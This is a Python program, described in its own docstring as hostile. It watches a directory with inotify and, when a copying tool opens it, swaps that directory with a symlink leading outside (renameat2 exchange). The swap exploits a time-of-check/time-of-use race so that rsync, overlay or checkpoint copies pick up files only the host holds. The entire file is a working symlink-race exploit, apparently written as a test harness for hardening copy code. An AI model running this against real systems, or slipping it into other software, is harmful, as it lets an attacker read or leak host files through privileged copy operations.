"""A hostile program: it puts a symlink where a directory was, while somebody looks, and back.

    DIR/p/d/NAME    a file of the program's own, in a directory
    DIR/q/d         a symlink that leads out, to where only the host has such a file
    DIR/z/decoy     a file that is copied later than the others
    DIR/a/first     a large file that is copied before the others

inotify(7) tells when DIR/p/d is opened: somebody looks at it, and is about to copy what is in it.
The program then exchanges p and q (renameat2(2)), so that the way to the file leads out. It
exchanges them again when the decoy is opened, or soon.

The program attacks once for each number of --skip, and SIGUSR1 has the next attack begin. So many
looks pass before the exchange, and the program writes the file after each of them, so that the file
is copied again. If no look is to pass, it writes the file after the exchange. On an overlay, those
who look at its layer are not seen; the program attacks there when the first file is opened.
"""

import argparse
import contextlib
import ctypes
import os
import select
import signal
import struct
import sys
import time

IN_OPEN = 0x20
AT_FDCWD, RENAME_EXCHANGE = -100, 2
FIRST_WORDS = 1 << 21
#: The number of no watched path.
NOBODY = -1
#: How long a copy takes to begin: a copy of a tmpfs, and one by rsync. rsync opens the decoy when
#: it is too late.
SWAPPED_S, MOST_SWAPPED_S = 0.2, 1.5
EVENT = struct.Struct("=iIII")

libc = ctypes.CDLL(None, use_errno=True)


class Watch:
    """A watch over paths, which tells when somebody opens one of them."""

    def __init__(self, paths: list[str]) -> None:
        self.fd = libc.inotify_init1(os.O_NONBLOCK | os.O_CLOEXEC)
        self._watched = [
            libc.inotify_add_watch(self.fd, os.fsencode(path), IN_OPEN) for path in paths
        ]

    def wait(self, which: int, timeout_s: float) -> bool:
        """Wait until that path itself is opened, and return whether it was in time."""
        deadline = time.monotonic() + timeout_s
        while (left := deadline - time.monotonic()) > 0:
            if select.select([self.fd], [], [], left)[0] and self._is_opened(which):
                return True
        return False

    def _is_opened(self, which: int) -> bool:
        data = os.read(self.fd, 1 << 16)
        found = False
        while data:
            watched, _, _, length = EVENT.unpack_from(data)
            found = found or (which != NOBODY and watched == self._watched[which] and length == 0)
            data = data[EVENT.size + length :]
        return found

    def drain(self) -> None:
        with contextlib.suppress(BlockingIOError):
            while os.read(self.fd, 1 << 16):
                pass


def exchange(one: str, other: str) -> None:
    if libc.renameat2(AT_FDCWD, one.encode(), AT_FDCWD, other.encode(), RENAME_EXCHANGE):
        sys.exit(f"renameat2: {os.strerror(ctypes.get_errno())}")


def write(path: str, text: str) -> None:
    with open(path, "w") as file:
        file.write(text)


def attack(own: str, skip: int, *, overlay: bool) -> None:
    """Exchange p and q when somebody looks at the directory, after `skip` looks."""
    watch = Watch(["a/first" if overlay else "p/d", "z/decoy"])
    for number in range(skip):
        watch.wait(0, 3600)
        write(own, f"mine {number}")
        write("z/decoy", f"decoy {number}")
        watch.drain()
    watch.wait(0, 3600)
    exchange("p", "q")
    by_rsync = skip > 0 or overlay
    watch.wait(1 if by_rsync else NOBODY, MOST_SWAPPED_S if by_rsync else SWAPPED_S)
    exchange("p", "q")
    if not by_rsync:
        write(own, "mine")
    os.close(watch.fd)  # CRIU may not find what an inotify descriptor watches


def main() -> int:
    parser = argparse.ArgumentParser(
        description="exchanges directories under whoever looks at them"
    )
    parser.add_argument("--dir", required=True)
    parser.add_argument("--leads-to", required=True)
    parser.add_argument("--name", required=True)
    parser.add_argument("--skip", type=int, nargs="+", required=True)
    parser.add_argument("--overlay", action="store_true")
    args = parser.parse_args()
    signal.signal(signal.SIGTERM, lambda *_: os._exit(0))
    own = f"p/d/{args.name}"
    for directory in (os.path.dirname(own), "q", "z", "a"):
        os.makedirs(f"{args.dir}/{directory}")
    os.chdir(args.dir)
    write("z/decoy", "decoy")
    os.symlink(args.leads_to, "q/d")
    if args.overlay:
        write("a/first", "first" * FIRST_WORDS)
        write(own, "mine")
    signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGUSR1])
    for skip in args.skip:
        attack(own, skip, overlay=args.overlay)
        write("done", "")
        signal.sigwait([signal.SIGUSR1])
    while True:
        time.sleep(1)


if __name__ == "__main__":
    sys.exit(main())
